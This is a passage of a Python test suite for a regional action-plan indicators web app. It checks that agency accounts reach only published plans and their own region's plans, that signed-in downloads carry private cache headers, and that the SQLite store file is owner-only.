            assert "YTB retired on 2030-12-31" in retired.get_data(as_text=True)
        form = client.get(f"/download/evaluasi.xlsx?plan={PLAN}&year=2019")
        assert form.status_code == (403 if role == "anonymous" else 200), role
        docx = client.get(f"/download/laporan_tahunan.docx?plan={PLAN}&year=2019&include_demo=1")
        assert docx.status_code == (403 if role == "anonymous" else 200), role
        for url in (
            f"/download/templates.zip?plan={PLAN}&year=2020",
            f"/download/responsibility.csv?plan={PLAN}",
        ):
            assert client.get(url).status_code == (200 if admin_only else 403), (role, url)


def _callback(client, output_id: str, inputs: dict, states: dict):
    """Fire the callback whose first output is `output_id` with the given values
    ("component.property": value), as the browser would."""
    dependency = next(
        d for d in _dependencies(client) if d["output"].strip(".").startswith(output_id + ".")
    )

    def props(spec, values):
        return [
            {"id": item["id"], "property": item["property"],
             "value": values.get(f"{item['id']}.{item['property']}")}
            for item in spec
        ]  # fmt: skip

    outputs = [
        {"id": part.split(".")[0], "property": part.split(".")[1]}
        for part in dependency["output"].strip(".").split("...")
    ]
    body = {
        "output": dependency["output"],
        "outputs": outputs if len(outputs) > 1 else outputs[0],
        "inputs": props(dependency["inputs"], inputs),
        "state": props(dependency["state"], states),
        "changedPropIds": list(inputs),
    }
    return client.post("/_dash-update-component", json=body)


def _second_region(engine, tmp_path) -> str:
    """An unpublished plan of Kota Kupang (53.71) beside TTU's, with one agency of its own."""
    import yaml

    source = yaml.safe_load(open("data/catalogue/ttu_2018_2022.yaml", encoding="utf-8"))
    source["plan"].update(code="KUPANG-2019-2023", region="53.71", title="RAD Kota Kupang")
    source["plan"].update(start_year=2019, end_year=2023)
    path = tmp_path / "kupang.yaml"
    path.write_text(yaml.safe_dump(source, allow_unicode=True), encoding="utf-8")
    for args in (
        ("catalogue", "import", path),
        ("agency", "add", "KUPSOS", "--name", "Dinas Sosial Kota Kupang", "--region", "53.71"),
        ("publish", PLAN),
    ):
        result = _cli(engine, *args)
        assert result.exit_code == 0, result.output
    return "KUPANG-2019-2023"


def test_an_agency_account_reads_published_plans_and_its_own_region_only(
    app, sqlite_store, tmp_path
):
    """An uploader of a TTU agency read every page, export and API answer of an unpublished
    plan of another kabupaten, and could load its files into it; the agency list showed that
    plan's members to anonymous visitors; any signed-in account saw another agency's waiting
    upload in the compliance grid. Now an agency account reads the published plans and its
    own region's, loads into its own region's plans only, and sees its own uploads only."""
    kupang = _second_region(sqlite_store, tmp_path)
    _account(sqlite_store, "sekretariat", "admin")
    _account(sqlite_store, "dinsos", "uploader", "DINSOS")
    _account(sqlite_store, "kupsos", "uploader", "KUPSOS")
    clients = {name: app.server.test_client() for name in ("dinsos", "kupsos", "sekretariat")}
    for name, client in clients.items():
        assert _login(client, name).status_code == 302
    anonymous = app.server.test_client()

    dinsos, kupsos, admin = clients["dinsos"], clients["kupsos"], clients["sekretariat"]
    assert dinsos.get(f"/api/indicator_progress?plan={kupang}").status_code == 404
    assert dinsos.get(f"/download/achievements.csv?plan={kupang}").status_code == 404
    assert dinsos.get(f"/download/evaluasi.xlsx?plan={kupang}&year=2020").status_code != 200
    assert "RAD Kota Kupang" not in _page(dinsos, "/", f"?plan={kupang}")
    assert "RAD Kota Kupang" in _page(kupsos, "/", f"?plan={kupang}")  # its own region's
    assert kupsos.get(f"/api/indicator_progress?plan={kupang}").status_code == 200
    assert admin.get(f"/api/indicator_progress?plan={kupang}").status_code == 200
    assert dinsos.get(f"/api/indicator_progress?plan={PLAN}").status_code == 200  # published
    for client, sees in ((anonymous, False), (dinsos, False), (kupsos, True), (admin, True)):
        listed = client.get("/download/agencies.csv").get_data(as_text=True)
        assert ("KUPSOS" in listed) == sees and "DINSOS" in listed

    # a TTU agency's file naming Kupang's plan is refused, whoever sends it
    path = tmp_path / "DINSOS_2020.xlsx"
    fill(make_template(sqlite_store, path, "DINSOS", 2020, plan=kupang), {"2.a.1.3": {"value": 3}})
    before = snapshot(sqlite_store)
    text = _load_upload(dinsos, path).get_data(as_text=True)
    assert "not of the region of plan KUPANG-2019-2023" in text
    assert snapshot(sqlite_store) == before


def test_signed_in_downloads_stay_private_and_the_store_file_is_its_owner_s(
    app, sqlite_store, tmp_path
):
    import os
    import stat

    from indicators.db import make_engine

    _account(sqlite_store, "sekretariat", "admin")
    assert _cli(sqlite_store, "publish", PLAN).exit_code == 0
    admin, anonymous = app.server.test_client(), app.server.test_client()
    assert _login(admin, "sekretariat").status_code == 302
    signed = admin.get(f"/download/achievements.csv?plan={PLAN}")
    assert signed.status_code == 200 and signed.headers["Cache-Control"] == "private, no-store"
    public = anonymous.get(f"/download/achievements.csv?plan={PLAN}")
    assert public.status_code == 200 and "no-store" not in public.headers.get("Cache-Control", "")
    # a year of 23 digits was a server error (an integer too large for the database)
    huge = anonymous.get("/download/achievements.csv?year=99999999999999999999999")
    assert huge.status_code == 400
    engine = make_engine(f"sqlite:///{tmp_path / 'baru.sqlite'}")
    with engine.connect():
        pass  # SQLite makes the file
    engine.dispose()
    assert stat.S_IMODE(os.stat(tmp_path / "baru.sqlite").st_mode) == 0o600
